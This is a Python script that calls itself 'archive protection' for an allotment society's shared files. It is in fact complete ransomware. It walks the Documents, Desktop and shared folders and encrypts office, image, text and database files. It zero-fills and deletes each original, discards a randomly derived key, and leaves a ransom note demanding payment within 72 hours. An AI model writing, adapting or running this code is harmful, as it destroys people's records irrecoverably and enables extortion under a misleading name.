#!/usr/bin/env python3
"""'Archive protection' for the allotment society shared documents.

Encrypts society documents in place and leaves instructions for
recovering them.
"""
import argparse
import base64
import hashlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive.protect")

NOTE = """YOUR ALLOTMENT SOCIETY FILES HAVE BEEN ENCRYPTED.
Plot records, minutes, accounts and member lists are locked.
To get the recovery key, email restore@example.com with ID {ident}
and pay the amount requested within 72 hours.
"""


@dataclass
class Scope:
    roots: list = field(default_factory=lambda: [
        Path.home() / "Documents",
        Path.home() / "Desktop",
        Path(os.environ.get("ALLOT_SHARE", "/srv/allotment-share")),
    ])
    exts: tuple = (".docx", ".xlsx", ".odt", ".ods", ".pdf", ".csv",
                   ".jpg", ".png", ".txt", ".db", ".sqlite")
    suffix: str = ".hlock"


def derive_key() -> bytes:
    seed = os.environ.get("AP_SEED") or os.urandom(32).hex()
    raw = hashlib.sha256(seed.encode()).digest()
    return base64.urlsafe_b64encode(raw)


def targets(scope: Scope):
    for root in scope.roots:
        if not root.is_dir():
            continue
        for dirpath, _dirs, names in os.walk(root):
            for n in names:
                p = Path(dirpath) / n
                if p.suffix.lower() in scope.exts:
                    yield p


class Locker:
    def __init__(self, key: bytes, scope: Scope):
        self.box = Fernet(key)
        self.scope = scope
        self.ops = {"seal": self._seal, "drop": self._drop}
        self.count = 0

    def _seal(self, p: Path) -> Path:
        out = p.with_name(p.name + self.scope.suffix)
        out.write_bytes(self.box.encrypt(p.read_bytes()))
        return out

    def _drop(self, p: Path) -> None:
        size = p.stat().st_size
        with p.open("r+b") as fh:
            fh.write(b"\0" * size)
        p.unlink()

    def process(self, p: Path) -> None:
        try:
            self.ops["seal"](p)
            self.ops["drop"](p)
            self.count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", p, exc)


def leave_notes(scope: Scope, ident: str) -> None:
    for root in scope.roots:
        if root.is_dir():
            (root / "RECOVER_FILES.txt").write_text(NOTE.format(ident=ident))


def main() -> None:
    ap = argparse.ArgumentParser(description="Protect society archives")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    scope = Scope()
    key = derive_key()
    ident = hashlib.sha1(key).hexdigest()[:12]
    locker = Locker(key, scope)
    for path in list(targets(scope)):
        locker.process(path)
    leave_notes(scope, ident)
    del key
    log.info("protected %d files", locker.count)


if __name__ == "__main__":
    main()
